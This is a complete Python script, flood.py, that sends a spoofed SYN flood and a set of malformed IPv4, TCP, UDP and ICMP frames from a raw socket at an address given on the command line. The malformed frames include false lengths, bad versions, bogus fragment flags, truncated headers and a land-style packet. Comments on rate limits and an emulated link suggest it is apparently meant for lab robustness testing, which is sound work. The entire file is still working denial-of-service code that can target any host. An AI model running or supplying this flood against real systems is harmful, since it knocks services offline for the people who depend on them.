"""Forged SYNs and frames that mean harm, from a raw socket, until standard input ends: flood.py DEVICE ADDRESS MAC."""

import os
import random
import select
import socket
import struct
import sys
import time

# Whoever began it may be gone without an end of the input.
LIMIT_S = 300
# At most 5,000 SYNs and 3,250 others a second: more than an emulated link carries would lose the frames of others too.
BURST, PAUSE_S = 20, 0.004


def total(data):
    data += b"\0" * (len(data) % 2)
    value = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while value > 0xFFFF:
        value = (value & 0xFFFF) + (value >> 16)
    return ~value & 0xFFFF


def ipv4(source, target, protocol, payload, **wrong):
    length = wrong.get("length", 20 + len(payload))
    head = struct.pack("!BBHHHBBH4s4s", wrong.get("version", 0x45), 0, length, 1, wrong.get("fragment", 0), 64, protocol, 0, source, target)
    return head[:10] + struct.pack("!H", total(head)) + head[12:] + payload


def syn(source, target, port, offset=5):
    head = struct.pack("!HHIIBBHHH", random.randrange(1024, 65535), port, random.getrandbits(32), 0, offset << 4, 2, 65535, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, 6, len(head))
    return head[:16] + struct.pack("!H", total(pseudo + head)) + head[18:]


def hostile(source, target):
    """One of each kind: what lies about its length, its version, its options, its fragments, and noise."""
    good = syn(source, target, 80)
    yield ipv4(source, target, 6, good, length=65535)
    yield ipv4(source, target, 6, good, length=19)
    yield ipv4(source, target, 6, good, version=0x4F)
    yield ipv4(source, target, 6, good, version=0x65)
    yield ipv4(source, target, 6, good, fragment=0x2000)
    yield ipv4(source, target, 6, good, fragment=0x1FFF)
    yield ipv4(source, target, 6, syn(source, target, 80, offset=15))
    yield ipv4(source, target, 6, syn(source, target, 80, offset=1))
    yield ipv4(source, target, 6, good[:13])
    yield ipv4(target, target, 6, syn(target, target, 80))
    yield ipv4(source, target, 17, struct.pack("!HHHH", 9, 9, 65535, 1))
    yield ipv4(source, target, 1, b"\x08\x00\x00\x00")
    yield ipv4(source, target, random.randrange(256), os.urandom(random.randrange(60)))


def main():
    device, address, mac = sys.argv[1:]
    random.seed(1)
    line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    line.bind((device, 0))
    ethernet = bytes.fromhex(mac.replace(":", "")) + bytes.fromhex("020000000007") + b"\x08\x00"
    target = socket.inet_aton(address)
    end = time.monotonic() + LIMIT_S
    while time.monotonic() < end and not select.select([sys.stdin], [], [], PAUSE_S)[0]:
        for _ in range(BURST):
            source = bytes([198, 18, random.randrange(256), random.randrange(256)])
            line.send(ethernet + ipv4(source, target, 6, syn(source, target, 80)))
        for packet in hostile(source, target):
            line.send(ethernet + packet)


main()
